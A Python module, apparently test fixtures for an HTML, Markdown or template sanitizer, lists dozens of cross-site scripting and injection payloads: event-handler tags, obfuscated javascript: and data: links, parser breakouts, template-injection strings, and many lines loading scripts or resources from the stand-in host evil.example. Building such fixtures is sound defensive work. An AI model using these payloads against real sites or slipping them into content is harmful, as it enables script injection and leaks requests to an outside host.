"""Texts that become a script, or ask another server, wherever they are taken for HTML, for a link or for a template."""

from __future__ import annotations

_EVIL = "//evil.example"
_CALL = "hit(1)"
_EVENTS = (
    "onload onerror onclick onfocus onmouseover onanimationstart onanimationend ontransitionend ontoggle onbegin onend "
    "onpointerenter onwheel onscroll oninput onpageshow onplay oncanplay onloadstart onstart onbeforeprint"
).split()
_TAGS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>",
    "<video src=x autoplay {}>",
    '<input autofocus tabindex=1 {} style="animation:x">',
)
_SCHEMES = (
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    "java\tscript:hit(1)",
    "\x01javascript:hit(1)",
    "javascript&colon;hit(1)",
    "&#106;avascript:hit(1)",
    "data:text/html,<script>hit(1)</script>",
    "data:image/svg+xml,<svg onload=hit(1)>",
    "vbscript:hit(1)",
    "blob:hit(1)",
    "javascript://example.org/%0ahit(1)",
    "feed:javascript:hit(1)",
)
_LINKS = ("[x]({})", '<a href="{}" autofocus onfocus=hit(1)>x</a>', "<{}>", "![x]({})")
_OTHERS = (
    "<script>hit(1)</script>",
    f"<script src={_EVIL}/x.js></script>",
    "</script><script>hit(1)</script>",
    "</title><script>hit(1)</script>",
    "</textarea><script>hit(1)</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<script\x0b>hit(1)</script>",
    "<ScRiPt>hit(1)</sCrIpT>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<template><img src=x onerror=hit(1)></template>",
    '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
    "<iframe src=javascript:hit(1)></iframe>",
    f"<iframe src={_EVIL}></iframe>",
    "<object data=javascript:hit(1)></object>",
    f"<object data={_EVIL}/x.svg></object>",
    f"<embed src={_EVIL}/x.svg>",
    f"<link rel=stylesheet href={_EVIL}/x.css>",
    f"<link rel=prefetch href={_EVIL}/x>",
    f"<style>@import '{_EVIL}/x.css';</style>",
    f"<style>*{{background:url({_EVIL}/x)}}</style>",
    f"<div style='background:url({_EVIL}/x)'>x</div>",
    f"<base href={_EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/'>",
    f"<form action={_EVIL}/ ><input autofocus onfocus=hit(1)></form>",
    f"<img src={_EVIL}/x.png>",
    f"<img srcset='{_EVIL}/x.png 1x'>",
    f"<video poster={_EVIL}/x.png></video>",
    f"<audio src={_EVIL}/x.mp3 autoplay></audio>",
    f"![x](http:{_EVIL}/x.png)",
    f"![x][r]\n\n[r]: http:{_EVIL}/x.png",
    f"[![x](http:{_EVIL}/x.png)](http:{_EVIL}/)",
    f"<picture><source srcset={_EVIL}/x.png><img src=y></picture>",
    '"><img src=x onerror=hit(1)>',
    "'><svg onload=hit(1)>",
    "--><img src=x onerror=hit(1)>",
    "]]><img src=x onerror=hit(1)>",
    "`<img src=x onerror=hit(1)>`",
    "```html\n<img src=x onerror=hit(1)>\n```",
    '```"><img src=x onerror=hit(1)>\n```',
    "&lt;img src=x onerror=hit(1)&gt;",
    "%3Cimg%20src=x%20onerror=hit(1)%3E",
    "\\u003cimg src=x onerror=hit(1)\\u003e",
    "＜img src=x onerror=hit(1)＞",
    "{{constructor.constructor('hit(1)')()}}",
    "${hit(1)}",
    "#{hit(1)}",
    "<%= hit(1) %>",
    "{% hit(1) %}",
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit(1)>"}}}',
    "- [x](javascript:hit(1))",
    "> <img src=x onerror=hit(1)>",
    "| <img src=x onerror=hit(1)> | x |\n|---|---|\n| [x](javascript:hit(1)) | x |",
    "# <img src=x onerror=hit(1)>",
    "**<img src=x onerror=hit(1)>**",
    "<x/onpointerenter=hit(1)//",
    "<img/src=x/onerror=hit(1)>",
    "<img src=x onerror\n=\nhit(1)>",
    "<a href=x ping=//evil.example/p>x</a>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hit(1)>",
)

HOSTILE = (
    *(tag.format(f"{event}={_CALL}") for tag in _TAGS for event in _EVENTS[:16]),
    *(link.format(scheme) for link in _LINKS for scheme in _SCHEMES),
    *_OTHERS,
)
"""Each calls `hit` where it is run, or asks evil.example where it is loaded."""
